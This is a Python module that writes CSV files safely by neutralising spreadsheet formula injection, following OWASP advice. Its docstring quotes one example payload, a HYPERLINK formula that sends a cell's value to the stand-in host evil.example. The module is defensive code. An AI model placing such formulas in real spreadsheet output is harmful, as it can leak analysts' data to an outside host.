"""CSV files that are safe to open in a spreadsheet.

Excel, LibreOffice Calc and Google Sheets read a cell that starts with "=", "+", "-" or
"@" (or with a tab or carriage return before one) as a formula, so a stored question
such as `=HYPERLINK("https://evil.example/?"&A1;"Click")` would run on the analyst's
computer when a report is opened ("CSV injection", OWASP). Every CSV file the project
writes goes through `write_csv` / `write_rows`, which prefix such a text cell with a
single quote, as OWASP recommends: the spreadsheet shows the text as text. Numbers
stay numbers (a negative count is no formula). NUL characters, which Python's csv
module cannot write, become U+FFFD.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from pathlib import Path
from typing import Any, TextIO

# The first characters that make a spreadsheet read a cell as a formula (OWASP, "CSV Injection").
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"


def safe_cell(value: Any) -> Any:
    """A cell as written: text starting with a formula character gets a leading single
    quote; numbers are kept; None is an empty cell."""
    if value is None:
        return ""
    if isinstance(value, (bool, int, float)):
        return value
    text = str(value).replace("\x00", "\ufffd")
    return QUOTE + text if text.startswith(FORMULA_START) else text


def write_rows(file: TextIO, header: list[str], rows: Iterable[Iterable[Any]]) -> None:
    """The header and the rows into an open text file (opened with newline="")."""
    writer = csv.writer(file)
    writer.writerow([safe_cell(cell) for cell in header])
    writer.writerows([safe_cell(cell) for cell in row] for row in rows)


def write_csv(path: Path, header: list[str], rows: Iterable[Iterable[Any]]) -> Path:
    """A UTF-8 CSV file at `path`; returns the path."""
    with Path(path).open("w", newline="", encoding="utf-8") as file:
        write_rows(file, header, rows)
    return Path(path)
